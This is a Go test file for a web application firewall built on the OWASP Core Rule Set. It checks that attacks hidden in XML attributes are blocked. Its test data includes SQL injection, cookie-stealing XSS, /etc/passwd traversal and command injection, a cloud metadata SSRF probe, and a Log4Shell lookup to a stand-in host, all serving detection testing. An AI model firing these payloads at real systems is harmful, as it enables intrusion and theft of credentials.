package rules

import (
	"io/fs"
	"strings"
	"testing"

	coreruleset "github.com/corazawaf/coraza-coreruleset/v4"

	"github.com/lachan-waf/lachan/policies"
)

// Every attack that is found in a text of XML is found in an attribute.
func TestAttacksInXMLAttributes(t *testing.T) {
	engines := NewEngines(Options{})
	stock := NewEngines(Options{})
	stock.stock = true
	dir := release(t, "4.25.1")
	for name, e := range map[string]*Engine{
		"embedded": acquireFrom(t, engines, site()),
		"stock":    acquireFrom(t, stock, site()),
		"crs_dir":  acquireFrom(t, engines, site(func(w *policies.WAF) { w.CRSDir = dir })),
	} {
		for attack, rule := range map[string]int{
			"1' UNION SELECT password FROM users-- ":    942100,
			"&lt;script&gt;alert(document.cookie)":      941100,
			"../../../../etc/passwd":                    930100,
			"; cat /etc/passwd":                         932160,
			"&lt;?php system('id');":                    933100,
			"http://169.254.169.254/latest/meta-data/":  934110,
			"${jndi:ldap://evil.test/a}":                944150,
			"javascript:alert(1)&quot; onload=alert(1)": 941120,
		} {
			for place, body := range map[string]string{
				"text": "<a><b>" + attack + "</b></a>", "attribute": `<a><b c="1" d="` + attack + `"/></a>`,
				"attribute in a name space": `<a xmlns:x="urn:x"><b x:d='` + strings.ReplaceAll(attack, "'", "&apos;") + `'/></a>`,
			} {
				r, reader := post("/rpc", "text/xml", body)
				v := inspect(t, e, r, reader)
				if !v.Blocked {
					t.Errorf("%s: %q in the %s passes", name, attack, place)
				}
				assertMatched(t, v, rule)
			}
		}
		for _, benign := range []string{
			`<soap:Envelope xmlns:soap="http://www.w3.org/2003/05/soap-envelope" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" soap:encodingStyle="http://schemas.xmlsoap.org/soap/encoding/"><soap:Body><m:tìm xmlns:m="http://dichvucong.example/tra-cuu" xsi:type="xsd:string"><số>12</số></m:tìm></soap:Body></soap:Envelope>`,
			`<?xml version="1.0" encoding="UTF-8"?><rss version="2.0" xmlns:atom="http://www.w3.org/2005/Atom"><channel><atom:link href="https://www.commune.example/feed?a=1&amp;b=2" rel="self" type="application/rss+xml"/><item title="Lịch tiếp công dân: 7 giờ 30 – 11 giờ"/></channel></rss>`,
		} {
			r, reader := post("/rpc", "text/xml", benign)
			if v := inspect(t, e, r, reader); v.Blocked || len(v.Matches) > 0 {
				t.Errorf("%s: %s\nmatches %+v", name, benign, v.Matches)
			}
		}
	}
}

func TestWithAttributes(t *testing.T) {
	for text, want := range map[string]string{
		"SecRule ARGS|XML:/* \"@rx XML:/* a\" \\\n  \"id:1\"": "SecRule ARGS|XML:/*|XML://@* \"@rx XML:/* a\" \\\n  \"id:1\"",
		"    SecRule XML:/*|ARGS \"@rx a\"":                   "    SecRule XML:/*|XML://@*|ARGS \"@rx a\"",
		"SecRule XML:/*|XML://@* \"@rx a\"":                   "SecRule XML:/*|XML://@* \"@rx a\"",
		"# SecRule XML:/* \"@rx a\"":                          "# SecRule XML:/* \"@rx a\"",
		"SecRule ARGS \"@rx XML:/*\"":                         "SecRule ARGS \"@rx XML:/*\"",
	} {
		if got := withAttributes(text); got != want {
			t.Errorf("%q\nbecomes %q\nwant    %q", text, got, want)
		}
		if once := withAttributes(text); withAttributes(once) != once {
			t.Errorf("%q is changed twice", text)
		}
	}
}

// No rule of CRS is overlooked, whatever its layout.
func TestEveryRuleOnXMLHasAttributes(t *testing.T) {
	names, err := fs.Glob(coreruleset.FS, "@owasp_crs/*.conf")
	if err != nil {
		t.Fatal(err)
	}
	count := 0
	for _, name := range names {
		text, err := fs.ReadFile(coreruleset.FS, name)
		if err != nil {
			t.Fatal(err)
		}
		directives, err := readDirectives(name, []byte(withAttributes(string(text))))
		if err != nil {
			t.Fatal(err)
		}
		for _, d := range directives {
			r, ok := d.parseRule()
			if !ok || !strings.Contains(r.variables, xmlTexts) {
				continue
			}
			if count++; !strings.Contains(r.variables, xmlAttributes) {
				t.Errorf("%s does not look at attributes", d.place)
			}
		}
	}
	if count < 170 {
		t.Errorf("%d rules on XML", count)
	}
}
